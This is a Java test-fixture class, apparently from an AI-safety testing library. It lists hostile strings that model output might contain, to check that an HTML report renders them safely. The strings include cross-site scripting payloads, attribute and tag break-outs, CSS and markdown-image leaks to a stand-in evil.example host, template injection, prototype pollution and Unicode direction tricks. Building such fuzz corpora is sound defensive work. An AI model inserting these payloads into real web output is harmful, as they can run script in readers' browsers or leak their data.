package org.safetyjunit.internal.report.html;

import java.util.ArrayList;
import java.util.List;

/** What a model, or who feeds it, might say to reach the person who reads the report. */
final class HostileCorpus {

  private HostileCorpus() {}

  /** Markup, attributes, addresses, style sheets, marks of direction, break-outs, huge words. */
  static List<String> outputs() {
    List<String> outputs = new ArrayList<>(fixed());
    outputs.add("A".repeat(2_000_000)); // one word
    outputs.add("<b>".repeat(50_000));
    outputs.add("\u202E".repeat(5_000) + "hidden");
    outputs.add("\n".repeat(20_000));
    outputs.add("[".repeat(100_000));
    outputs.add("\uD83D\uDC69\u200D".repeat(20_000));
    return outputs;
  }

  private static List<String> fixed() {
    return List.of(
        "<script>pwned(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=pwned(2)>",
        "<svg onload=pwned(3)>",
        "<svg><script>pwned(4)</script></svg>",
        "<iframe src=\"javascript:pwned(5)\"></iframe>",
        "<iframe srcdoc=\"<script>parent.pwned(6)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>pwned(7)</script>\"></object>",
        "<embed src=\"javascript:pwned(8)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<form action=//evil.example/><input name=x autofocus onfocus=pwned(9)></form>",
        "<details open ontoggle=pwned(10)>",
        "<video><source onerror=pwned(11)></video>",
        "<body onload=pwned(12)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned(13)></style></mglyph></table></mtext></math>",
        "<template><script>pwned(14)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned(15)>\">",
        "<!--><script>pwned(16)</script>-->",
        "</script><script>pwned(17)</script>",
        "</script ><img src=x onerror=pwned(18)>",
        "</SCRIPT/x><script>pwned(19)//",
        "</style><script>pwned(20)</script>",
        "</title><script>pwned(21)</script>",
        "</textarea><script>pwned(22)</script>",
        "<!--<script>",
        "]]><script>pwned(23)</script>",
        "<plaintext>",
        "<xmp><script>pwned(24)</script></xmp>",
        "\" onmouseover=\"pwned(25)\" x=\"",
        "' onfocus='pwned(26)' autofocus='",
        "\"><img src=x onerror=pwned(27)>",
        "` onload=`pwned(28)`",
        "x\" style=\"position:fixed;inset:0;background:red\" y=\"",
        "\" aria-hidden=\"true\" hidden=\"",
        "x onclick=pwned(29)//",
        "\" formaction=\"javascript:pwned(30)\" type=\"submit",
        "javascript:pwned(31)",
        "JaVaScRiPt&colon;pwned(32)",
        "data:text/html;base64,PHNjcmlwdD5wd25lZCgzMyk8L3NjcmlwdD4=",
        "[click](javascript:pwned(34))",
        "![x](http://evil.example/leak?q=1)",
        "<a href=\"javascript:pwned(35)\" ping=\"//evil.example/\">x</a>",
        "//evil.example/%2e%2e/",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "<a href=\" &#14; javascript:pwned(36)\">x</a>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<div style=\"background:url(javascript:pwned(37))\">",
        "@import url(\"//evil.example/x.css\");",
        "</style><style>body{display:none}</style>",
        "expression(pwned(38))",
        "<link rel=\"preload\" as=\"image\" href=\"//evil.example/p.png\">",
        "\u202Eevil\u202C reversed",
        "\u2067isolate never ended",
        "a\u200Bb\u200Cc\u200Dd",
        "\uFEFFbom \u00ADsoft",
        "\000nul\001\033[31mred\033[0m",
        "tag \uDB40\uDC41\uDB40\uDC42",
        "\uD800 lone surrogate",
        "Z\u0351\u0357\u0346a\u0321\u0322\u0325l\u0349\u034E\u0350g\u0318\u0317o",
        "\u2028line\u2029separators",
        "\u061Carabic mark \u180E",
        "\"}]};pwned(40);//",
        "\\\\\"}</script>",
        "\\u003cscript\\u003epwned(41)\\u003c/script\\u003e",
        "{\"__proto__\":{\"polluted\":true}}",
        "constructor",
        "__proto__",
        "${pwned(42)}",
        "{{constructor.constructor('pwned(43)')()}}",
        "<%= pwned(44) %>",
        "#{7*7} @for(x : y) $unsafe{page}",
        "&lt;script&gt;pwned(45)&lt;/script&gt;",
        "&#60;img src=x onerror=pwned(46)&#62;",
        "%3Cscript%3Epwned(47)%3C/script%3E",
        "*/pwned(48)/*",
        "\\x3cscript\\x3epwned(49)\\x3c/script\\x3e");
  }
}
